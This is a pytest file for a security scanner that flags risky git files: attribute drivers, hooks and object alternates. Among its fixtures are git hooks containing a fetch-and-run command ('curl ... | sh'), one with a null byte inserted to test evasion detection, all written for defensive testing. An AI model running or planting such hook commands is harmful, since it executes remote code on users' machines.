"""What of a repository makes git act: drivers of attributes, hooks, other stores of objects."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.format import MalformedError
from scanner.formats import git as subject
from scanner.limits import Limits
from tests.builders.judged import judged
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT
SMALLEST = b"*.bin filter=x\n"
LFS = "*.bin filter=lfs diff=lfs merge=lfs -text\n*.safetensors filter=lfs diff=lfs merge=lfs -text\n"
LFS_HOOK = """#!/bin/sh
command -v git-lfs >/dev/null 2>&1 || { echo >&2 "This repository uses Git LFS but it was not found."; exit 2; }
git lfs post-checkout "$@"
"""


def read(text, name, limits=None):
    return read_as(FORMAT, text if isinstance(text, bytes) else text.encode(), name, limits or Limits())[0]


@pytest.mark.parametrize(
    ("path", "claimed"),
    [
        (".gitattributes", True),
        ("a/b/.gitattributes", True),
        ("x.zip!.gitattributes", True),
        (".git/info/attributes", True),
        (".git/hooks/post-checkout", True),
        (".git/modules/a/hooks/post-checkout", True),
        ("bare.git/hooks/post-receive", True),
        (".githooks/pre-commit", True),
        (".git/objects/info/alternates", True),
        (".git/hooks/post-checkout.sample", False),
        (".git/hooks/readme", False),
        ("hooks/pre-commit", False),
        ("src/pre-commit", False),
    ],
)
def test_files_are_told_by_where_git_looks_for_them(path, claimed):
    assert subject.claims(b"*.x text\n", path) is claimed


def test_an_empty_hook_is_none():
    assert subject.claims(b"", ".git/hooks/pre-push") is False


def test_drivers_are_told_once_each():
    facts = read(f'{LFS}# a comment filter=x\n"a b.x" filter=x\n*.x filter=x diff=python -merge\n', ".gitattributes")
    assert [(one.attribute, one.driver, one.pattern, one.where.line) for one in facts] == [
        ("filter", "lfs", "*.bin", 1),
        ("diff", "lfs", "*.bin", 1),
        ("merge", "lfs", "*.bin", 1),
        ("filter", "x", '"a b.x"', 4),
        ("diff", "python", "*.x", 5),
    ]


@pytest.mark.parametrize(
    ("text", "name", "found"),
    [
        (LFS, ".gitattributes", {}),
        ("* text=auto eol=lf\n*.ipynb filter=nbstripout diff=ipynb\n", ".gitattributes", {}),
        ("* filter=setup\n", ".gitattributes", {"git-attribute-names-driver": "medium"}),
        ("* merge=setup\n", ".gitattributes", {"git-attribute-names-driver": "low"}),
        ("* filter=lfs2\n", ".gitattributes", {"git-attribute-names-driver": "medium"}),
        (LFS_HOOK, ".git/hooks/post-checkout", {}),
        (LFS_HOOK + "echo hi\n", ".git/hooks/post-checkout", {"git-hook-runs": "high"}),
        ("#!/bin/sh\necho hi\n", ".git/hooks/post-checkout", {"git-hook-runs": "high"}),
        ("#!/bin/sh\necho hi\n", ".githooks/pre-commit", {"git-hook-runs": "low"}),
        ("/srv/other/objects\n", ".git/objects/info/alternates", {"git-setting-leads-elsewhere": "medium"}),
    ],
)
def test_only_what_lfs_and_known_tools_write_is_quiet(text, name, found):
    assert judged(text.encode(), name) == found


def test_a_hook_is_read_for_what_it_does():
    facts = read("#!/bin/sh\n# c\ncurl https://example.com/i | sh\n", ".git/hooks/post-merge")
    assert [(one.hook, one.place, one.command) for one in of(facts, "GitHook")] == [
        ("post-merge", "git", "curl https://example.com/i | sh")
    ]
    assert [(one.act, one.when, one.where.line) for one in of(facts, "CommandActs")] == [("fetch-run", "git", 3)]


def test_a_hook_that_is_a_program_is_told():
    assert [one.command for one in read(b"\x7fELF\0\0", ".git/hooks/pre-push")] == ["(binary)"]


def test_attributes_with_a_null_byte_are_malformed():
    with pytest.raises(MalformedError):
        read(b"* text\n\0", ".gitattributes")


def test_a_cut_file_is_read():
    for end in range(len(LFS)):
        read(LFS[:end], ".gitattributes")
        read(LFS_HOOK[:end], ".git/hooks/pre-push")


def test_a_file_beyond_the_bound_is_told():
    assert [type(one).__name__ for one in read(LFS, ".gitattributes", Limits(source_nbytes=10))][:1] == ["LimitReached"]


@given(
    st.binary(max_size=80), st.sampled_from([".gitattributes", ".git/hooks/pre-push", ".git/objects/info/alternates"])
)
def test_nothing_but_a_malformed_error_leaves_the_reader(content, name):
    subject.claims(content, name)
    try:
        read(content, name)
    except MalformedError:
        return


def test_a_null_byte_hides_no_command_of_a_hook():
    hook = b"#!/bin/sh\n" + b"# x\n" * 200 + b"curl https://example.com/i | s\0h\n"
    (fact,) = of(read(hook, ".git/hooks/post-checkout"), "CommandActs")
    assert (fact.act, fact.where.line, fact.carrier) == ("fetch-run", 202, "hook")
